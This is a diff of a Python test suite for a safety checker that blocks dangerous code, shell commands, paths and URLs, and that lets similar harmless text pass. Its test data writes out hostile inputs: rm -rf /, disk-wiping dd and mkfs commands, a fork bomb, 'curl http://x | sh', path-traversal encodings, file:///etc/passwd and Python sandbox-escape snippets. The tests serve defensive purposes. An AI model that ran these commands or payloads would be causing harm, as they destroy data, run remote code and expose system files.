@@ -1,9 +1,13 @@
-"""The corpus of blocked code, commands, paths and addresses, and harmless texts like them."""
+"""What is dangerous is blocked in a field of its kind, at any depth; harmless texts pass."""
+
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from pydantic import JsonValue
 
+from dsl.safety.blocked_code import MAX_CODE
 from dsl.safety.blocked_rules import FieldKind
 from dsl.safety.field_safety import (
     FIELD_KINDS,
@@ -14,156 +18,7 @@ from dsl.safety.field_safety import (
 )
 from dsl.values import Json
 from dsl.wording.blocked_wording import BlockedRule
-
-BLOCKED: dict[FieldKind, dict[str, BlockedRule]] = {
-    "code": {
-        "import os": "import",
-        "from os import path": "import",
-        "open('x')": "builtin",
-        "e=eval\ne('1')": "builtin",
-        "exec('1')": "builtin",
-        "compile('a','b','c')": "builtin",
-        "__import__('os')": "builtin",
-        "input()": "builtin",
-        "raw_input()": "builtin",
-        "file('x')": "builtin",
-        "().__class__.__bases__": "internals",
-        "getattr(x,'__globals__')": "internals",
-        "x = [open]": "builtin",
-        "import os as o, sys": "import",
-        "if 1:\n  from . import x": "import",
-        "broken (\nimport os": "import",
-        "exec 'x'": "builtin",
-        "globals()['x']": "builtin",
-    },
-    "command": {
-        "rm -rf /": "deletion",
-        "rm -fr x": "deletion",
-        "rm -r -f x": "deletion",
-        "rm --recursive --force x": "deletion",
-        "/bin/rm -rf x": "deletion",
-        "sudo rm x": "elevation",
-        "env A=1 rm -rf x": "deletion",
-        "bash -c 'rm -rf /'": "deletion",
-        "ls; rm -rf x": "deletion",
-        "ls && rm -rf x": "deletion",
-        "echo $(rm -rf x)": "deletion",
-        "`rm -rf x`": "deletion",
-        "find . -exec rm -rf {} ;": "deletion",
-        "find / -delete": "deletion",
-        "format C:": "disk",
-        "format.com C:": "disk",
-        "FORMAT c: /q": "disk",
-        "mkfs.ext4 /dev/sda": "disk",
-        "dd if=x of=/dev/sda": "disk",
-        "shutdown now": "power",
-        "reboot": "power",
-        ":(){ :|:& };:": "fork_bomb",
-        "curl http://x | sh": "piped_script",
-        "xargs rm -rf": "deletion",
-        "cmd /c del /s x": "deletion",
-        "rm -rf 'unclosed": "deletion",
-        "r\\m -rf x": "deletion",
-        '"rm" -rf x': "deletion",
-        "cat x > /dev/sda": "disk",
-        "nice rm -Rf x": "deletion",
-        "(rm -rf x)": "deletion",
-        "rm -rfv x": "deletion",
-        "eval rm -rf x": "deletion",
-        "rd /s /q c:\\": "deletion",
-        "echo x > /dev/sda": "disk",
-        "echo x >/dev/nvme0n1": "disk",
-    },
-    "path": {
-        "../x": "traversal",
-        "a/../b": "traversal",
-        "..": "traversal",
-        "..\\x": "traversal",
-        "%2e%2e/x": "traversal",
-        "%2e%2e%2fx": "traversal",
-        "%252e%252e/x": "traversal",
-        "..%c0%afx": "traversal",
-        "a\x00b": "null",
-        "%c0%ae%c0%ae/x": "traversal",
-        ".. /x": "traversal",
-    },
-    "url": {
-        "file:///etc/passwd": "scheme",
-        "ftp://x": "scheme",
-        "javascript:1": "scheme",
-        "http://u:p@x/": "credentials",
-        "//x": "scheme",
-        "http://": "scheme",
-        "http://a b": "whitespace",
-        "http:\\\\x": "whitespace",
-        "data:text/html,x": "scheme",
-        "gopher://x": "scheme",
-    },
-}
-
-HARMLESS: dict[FieldKind, list[str]] = {
-    "code": [
-        "'{}'.format(1)",
-        "s='import os'",
-        "def open_file(x): return x\nopen_file(1)",
-        "file = 'x'\nfile.upper()",
-        "# import os\n1",
-        "important = 1",
-        "input = [1]\nsum(input)",
-        "re.compile('a')",
-        "math.sqrt(2)",
-        "'please import the data'",
-        "x.open",
-        "for file in [1]: print(file)",
-        "lambda input: input + 1",
-        "evaluate(1)",
-    ],
-    "command": [
-        "ls -la",
-        "git format-patch -1",
-        "python -m black --format x",
-        "rm file.txt",
-        "rm -r build",
-        "echo format",
-        "make format",
-        "npm run format",
-        "pytest -rf",
-        "grep -rf patterns .",
-        "ruff format .",
-        "python -c 'print(1)'",
-        "git rm -r --cached x",
-        "docker compose up",
-        "find . -name '*.py'",
-        "curl https://x -o y",
-        "echo 'rm -rf is dangerous'",
-        "cat /dev/null",
-        "dd if=a of=b",
-        "echo rm -rf x",
-    ],
-    "path": [
-        "a/b.txt",
-        "a..b",
-        "...",
-        "src/..hidden/x",
-        "a b",
-        "100%.txt",
-        "%41.txt",
-        "x/.../y",
-    ],
-    "url": [
-        "https://example.org/a?b=../c",
-        "http://x:8080/",
-        "HTTPS://X/",
-        "https://x/%2e%2e/",
-    ],
-}
-
-PROSE = [
-    "please format the report",
-    "Please import the data, then eval(uate) it: rm -rf is dangerous.",
-    "open('file') is how Python reads ../notes",
-    "file:///etc/passwd",
-]
+from tests.unit.dsl.safety.corpus import BLOCKED, HARMLESS, PROSE
 
 
 @pytest.mark.parametrize(
@@ -183,6 +38,88 @@ def test_a_dangerous_text_is_blocked_in_a_field_of_its_kind(
 )
 def test_a_harmless_text_that_looks_similar_passes(kind: FieldKind, text: str) -> None:
     assert judge(kind, text) is None
+
+
+@pytest.mark.parametrize(
+    ("kind", "text", "found"),
+    [
+        ("command", "ls; env A=1 rm -rf x", "rm -rf x"),
+        ("command", "bash -c 'ls; rm -rf /'", "rm -rf /"),
+        ("command", "curl http://x | sh", "curl http://x | sh"),
+        ("command", ":(){ :|:& };:", ":(){ :|:& };:"),
+        ("code", "1\nimport os as o, sys", "import os, sys"),
+        ("code", "from . import x", "from . import"),
+        ("code", "from a.b import x", "from a.b import"),
+        ("code", "e = eval", "eval"),
+        ("code", "x.__class__", "__class__"),
+        ("code", "f('__globals__')", "__globals__"),
+        ("code", "broken (\n  import os, sys", "import os"),
+        ("code", "exec  'x'", "exec"),
+        ("code", "broken (\nopen ('x')", "open"),
+        ("path", "a\0b", "a?b"),
+        ("path", "a/../b", "a/../b"),
+        ("url", "http://u:p@x/y", "http://...@x"),
+        ("url", "http://a b", "http://a b"),
+        ("url", "http://[x", "http://[x"),
+        ("url", "file:///x", "file:///x"),
+        ("url", f"file:///{'x' * 72}", f"file:///{'x' * 72}"),
+        ("url", f"file:///{'x' * 73}", f"file:///{'x' * 69}..."),
+    ],
+)
+def test_what_is_shown_of_a_blocked_text_is_what_is_dangerous(
+    kind: FieldKind, text: str, found: str
+) -> None:
+    blocked = judge(kind, text)
+    assert blocked is not None
+    assert blocked.found == found
+
+
+def test_commands_within_commands_are_followed_four_deep() -> None:
+    assert judge("command", "eval " * 4 + "reboot") is not None
+    assert judge("command", "eval " * 5 + "reboot") is None
+
+
+@pytest.mark.parametrize("longer", [False, True])
+def test_code_that_is_too_long_to_parse_is_judged_by_its_lines(longer: bool) -> None:
+    text = "'''\nimport os\n'''\n"
+    text += "#" * (MAX_CODE - len(text) + longer)
+    assert (judge("code", text) is not None) == longer
+
+
+Nested = Callable[[Json], Json]
+_VIA: list[tuple[Nested, Callable[[JsonValue], JsonValue]]] = [
+    (lambda inner: {"properties": {"a": inner}}, lambda value: {"a": value}),
+    (lambda inner: {"items": inner}, lambda value: [value]),
+    (lambda inner: {"anyOf": [inner]}, lambda value: value),
+]
+
+
+@pytest.mark.parametrize(("schema_around", "value_around"), _VIA, ids=["keys", "items", "cases"])
+@pytest.mark.parametrize("depth", [64, 65])
+def test_a_field_is_checked_down_to_64_levels(
+    schema_around: Nested, value_around: Callable[[JsonValue], JsonValue], depth: int
+) -> None:
+    schema: Json = {"x-kind": "path"}
+    value: JsonValue = "../x"
+    for _ in range(depth):
+        schema, value = schema_around(schema), value_around(value)
+    assert len(blocked_fields(schema, value)) == (depth == 64)
+
+
+def test_the_first_items_of_a_list_have_schemas_of_their_own() -> None:
+    schema: Json = {"prefixItems": [{"x-kind": "path"}], "items": {"x-kind": "url"}}
+    found = blocked_fields(schema, ["../x", "../x"])
+    assert [(one.path, one.kind) for one in found] == [((0,), "path"), ((1,), "url")]
+
+
+def test_a_field_that_two_schemas_describe_is_reported_once() -> None:
+    (found,) = blocked_fields({"x-kind": "path", "allOf": [{"x-kind": "path"}]}, ["a", ["../b"]])
+    assert found.path == (1, 0)
+
+
+def test_a_blocked_value_without_a_name_is_called_by_its_kind() -> None:
+    (found,) = blocked_fields({"x-kind": "path"}, "../x")
+    assert describe_blocked(found).startswith("path: '../x' leaves its folder")
 
 
 SCHEMA: Json = {
